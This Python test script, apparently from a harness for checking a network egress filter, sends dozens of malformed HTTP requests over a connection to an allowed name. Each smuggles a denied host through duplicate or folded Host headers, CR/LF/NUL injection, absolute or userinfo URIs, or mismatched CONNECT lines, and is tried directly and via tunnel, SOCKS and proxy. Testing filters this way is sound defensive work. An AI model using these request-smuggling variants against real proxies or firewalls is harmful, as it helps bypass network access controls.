"""Requests over a connection to an allowed name, for another host or for none."""

from probe import *


def head(*lines):
    return "\r\n".join(lines) + "\r\n\r\n"


GET = f"GET /{TOKEN} HTTP/1.1"
REQUESTS = [
    head(GET, "Host: denied.test"),
    head(GET, "Host: www.allowed.test"),
    head(GET, "Host: denied.test:80"),
    head(GET),
    head(f"GET /{TOKEN} HTTP/1.0"),
    head(f"GET /{TOKEN}"),
    head(GET, "Host:"),
    head(GET, "Host: allowed.test", "Host: denied.test"),
    head(GET, "Host: denied.test", "Host: allowed.test"),
    head(GET, "Host: allowed.test", "Host: allowed.test"),
    head(GET, "Host: allowed.test, denied.test"),
    head(GET, "Host: allowed.test", " denied.test"),
    head(GET, "Host : denied.test"),
    head(GET, " Host: denied.test", "Host: allowed.test"),
    head(GET, "Host: allowed.test", "Host : denied.test"),
    head(GET, "Host: allowed.test", "Host\t: denied.test"),
    head(GET, "Host: allowed.test", "X: y\rHost: denied.test"),
    head(GET, "Host: allowed.test", "X: y\nHost: denied.test"),
    head(GET, "Host: allowed.test", "X: y\0Host: denied.test"),
    head(f"GET http://denied.test/{TOKEN} HTTP/1.1", "Host: allowed.test"),
    head(f"GET http://denied.test/{TOKEN} HTTP/1.1", "Host: denied.test"),
    head(f"GET http://allowed.test/{TOKEN} HTTP/1.1", "Host: denied.test"),
    head(f"GET http://allowed.test@denied.test/{TOKEN} HTTP/1.1", "Host: allowed.test"),
    head(f"GET http://denied.test\\@allowed.test/{TOKEN} HTTP/1.1", "Host: denied.test"),
    head(f"GET //denied.test/{TOKEN} HTTP/1.1", "Host: denied.test"),
    head(f"GET denied.test/{TOKEN} HTTP/1.1", "Host: allowed.test"),
    head("CONNECT denied.test:80 HTTP/1.1", "Host: allowed.test", "X: " + TOKEN),
    head("CONNECT allowed.test:80 HTTP/1.1", "Host: denied.test", "X: " + TOKEN),
    head(f"GET /{TOKEN} HTTP/2.0", "Host: allowed.test"),
    head(f"GET /{TOKEN} HTTP/1.11", "Host: allowed.test"),
    head(f"GET /{TOKEN} HTTP/0.9", "Host: allowed.test"),
    head(f"GET  /{TOKEN} HTTP/1.1", "Host: allowed.test"),
    head(f"GET /{TOKEN} x HTTP/1.1", "Host: allowed.test"),
    head(f"GET\t/{TOKEN}\tHTTP/1.1", "Host: allowed.test"),
    head(f"G\0ET /{TOKEN} HTTP/1.1", "Host: allowed.test"),
    f"GET /{TOKEN}\r\n",
    f"GET /{TOKEN} HTTP/1.1\nHost: allowed.test\n\n",
    f"GET /{TOKEN} HTTP/1.1\rHost: allowed.test\r\r",
    f"{TOKEN} and no protocol at all\r\n\r\n",
    f"EHLO denied.test {TOKEN}\r\n",
]


def control():
    patience(1)
    side_by_side(lambda data: send("allowed.test", 80, data), REQUESTS)


def attack():
    patience(1)
    side_by_side(every_way, REQUESTS)


def every_way(data):
    say("direct", send("allowed.test", 80, data))
    say("port 443", send("allowed.test", 443, data))
    say("tunnel", tunnel("allowed.test:80", data))
    say("socks", by_socks("allowed.test", 80, data))
    say("proxy", to_proxy(data))


start(attack, control)
